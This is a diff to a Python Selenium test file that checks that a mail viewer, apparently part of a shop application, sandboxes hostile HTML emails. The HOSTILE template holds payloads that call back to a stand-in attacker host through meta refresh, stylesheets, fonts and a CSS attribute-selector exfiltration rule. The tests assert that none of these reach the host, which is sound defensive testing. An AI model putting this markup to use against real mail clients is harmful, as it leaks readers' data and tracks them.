@@ -208,7 +208,7 @@ def test_a_mail_links_to_its_celery_result(shop: Shop, english: Chrome) -> None:
 
 HOSTILE = """<!doctype html><html><head><title>t</title>
 <meta http-equiv="refresh" content="0; url={evil}/refresh">
-<link rel="stylesheet" href="{evil}/link.css">
+<link rel="stylesheet" href="{evil}/link.css"><link rel="preconnect" href="{evil}">
 <style>@import "{evil}/import.css"; @font-face {{ font-family: x; src: url({evil}/font) }}
 p {{ font-family: x; background: url({evil}/background) }}
 input[value^="s"] {{ background: url({evil}/exfiltrated) }}</style>
@@ -233,7 +233,8 @@ def test_a_hostile_mail_reaches_nothing(shop: Shop, english: Chrome, stranger: S
     windows = english.driver.window_handles
     english.driver.switch_to.frame(english.one("iframe.epica-frame"))
     assert "Hello" in english.text
-    for name in ("submit", "script", "top", "window"):
+    assert not english.all("#submit, script, meta, link, iframe, object, video, embed")
+    for name in ("script", "top", "window"):
         english.one(f"#{name}").click()
     english.driver.switch_to.default_content()
     assert english.driver.current_url == address
@@ -270,9 +271,9 @@ def test_a_hostile_mail_is_harmless_outside_its_frame(
 ) -> None:
     mail = shop.deliver("a@example.com", "Evil", HOSTILE.format(evil=stranger.url))
     english.open(f"{MAILS}{mail}/html/")
-    assert english.driver.title == "t"
-    english.one("#submit").click()
-    assert english.driver.title == "t"
+    title = english.driver.title
+    english.one("#script").click()
+    assert english.driver.title == title
     assert english.driver.current_url.endswith("/html/")
     assert stranger.hits == []
     english.console()
